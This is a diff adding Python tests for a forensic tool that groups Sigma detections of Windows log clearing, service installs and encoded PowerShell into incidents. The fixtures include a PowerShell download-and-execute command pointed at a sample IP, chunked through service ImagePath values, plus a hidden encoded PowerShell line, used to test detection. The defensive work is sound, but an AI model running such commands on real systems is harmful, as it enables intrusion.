@@ -1,0 +1,106 @@
+"""Detections grouped into incidents: one act per technique × host × window."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import orjson
+
+from ashiato.analysis import incidents
+from ashiato.analysis.context import Context
+from ashiato.detect import sigma
+from ashiato.detect.sigma.runner import Stats
+
+T0 = datetime(2024, 5, 1, 3, 0, tzinfo=UTC)
+
+
+def _rule(key: int, title: str, level: str, tags: list[str]) -> sigma.RuleInfo:
+    return sigma.RuleInfo(key, title, f"id-{key}", level, f"{key}.yml", "rule", tags)
+
+
+def _event(record: int, when: datetime, host: str, **kw: Any) -> dict[str, Any]:
+    row = {"@timestamp": when, "host.name": host, "evidence_id": "ev1", "record": record}
+    row["event.dataset"] = "windows.security"
+    row["extra"] = kw.pop("extra", None)  # present: no lookup in the case
+    row.update(kw)
+    return row
+
+
+def _build(detections: list[sigma.Detection]) -> list[Any]:
+    result = sigma.Result([], detections, [], Stats())
+    return incidents.build(Context(events=None, tz="UTC"), result)
+
+
+CLEAR = _rule(1, "Security Log Cleared", "high", ["attack.defense-evasion", "attack.t1070.001"])
+CLEAR_OTHER = _rule(2, "Event Log Cleared", "medium", ["attack.t1070.001"])
+SERVICE = _rule(3, "Suspicious Service Installed", "high", ["attack.persistence",
+                                                             "attack.t1543.003"])  # fmt: skip
+ENCODED = _rule(4, "Encoded PowerShell", "high", ["attack.execution", "attack.t1059.001"])
+
+
+def test_clearing_every_log_in_seconds_is_one_incident() -> None:
+    dets = [
+        sigma.Detection(CLEAR, _event(i, T0 + timedelta(milliseconds=30 * i), "dc01",
+                                      **{"user.name": "adm-tanaka"}))
+        for i in range(90)
+    ]  # fmt: skip
+    dets += [sigma.Detection(CLEAR_OTHER, d.event) for d in dets[:10]]  # matched twice
+    found = _build(dets)
+    assert len(found) == 1
+    inc = found[0]
+    assert inc.technique == "T1070.001" and inc.technique_name == "Clear Windows Event Logs"
+    assert inc.count == 90  # an event matched by two rules counts once
+    assert inc.severity == "high" and inc.hosts == ["dc01"] and inc.accounts == ["adm-tanaka"]
+    assert set(inc.rules) == {"Security Log Cleared", "Event Log Cleared"}
+    assert inc.evidence and inc.evidence[0].ref == "ev1:0"
+
+
+def test_a_long_pause_starts_a_new_incident() -> None:
+    dets = [
+        sigma.Detection(CLEAR, _event(1, T0, "dc01")),
+        sigma.Detection(CLEAR, _event(2, T0 + timedelta(hours=5), "dc01")),
+    ]
+    assert [i.count for i in _build(dets)] == [1, 1]
+
+
+def test_a_burst_of_services_says_what_was_smuggled() -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
+    chunks = [script[i : i + 3] for i in range(0, len(script), 3)]
+    dets = []
+    for n, chunk in enumerate(chunks):
+        data = {"ServiceName": f"svc{n:03d}", "ImagePath": f"%COMSPEC% /c echo {chunk}>>x"}
+        extra = orjson.dumps({"winlog": {"event_data": data}}).decode()
+        ev = _event(100 + n, T0 + timedelta(seconds=n), "fs01", extra=extra,
+                    **{"event.dataset": "windows.system", "event.code": "7045"})  # fmt: skip
+        dets.append(sigma.Detection(SERVICE, ev))
+    found = _build(dets)
+    assert len(found) == 1 and found[0].count == len(chunks)
+    joined = found[0].key_values[0]
+    assert joined.startswith(f"{len(chunks)} distinct service binary values")
+    assert joined.endswith(f"varying parts in time order: {script}")
+
+
+def test_the_same_command_on_many_hosts_is_one_deployment() -> None:
+    cmd = "powershell.exe -nop -w hidden -enc SQBFAFgA"
+    dets = [
+        sigma.Detection(ENCODED, _event(200 + i, T0 + timedelta(minutes=i), f"pc{i:02d}",
+                                        **{"process.command_line": cmd}))
+        for i in range(6)
+    ]  # fmt: skip
+    found = _build(dets)
+    assert len(found) == 1
+    assert found[0].hosts == [f"pc{i:02d}" for i in range(6)] and found[0].key_values[0] == cmd
+
+
+def test_other_techniques_and_hosts_stay_apart() -> None:
+    dets = [
+        sigma.Detection(CLEAR, _event(1, T0, "dc01")),
+        sigma.Detection(ENCODED, _event(2, T0, "dc01", **{"process.command_line": "a"})),
+        sigma.Detection(ENCODED, _event(3, T0, "pc02", **{"process.command_line": "b"})),
+    ]
+    found = _build(dets)
+    assert sorted((i.technique, tuple(i.hosts)) for i in found) == [
+        ("T1059.001", ("dc01",)), ("T1059.001", ("pc02",)), ("T1070.001", ("dc01",)),
+    ]  # fmt: skip
+    assert [i.id for i in found] == ["I1", "I2", "I3"]
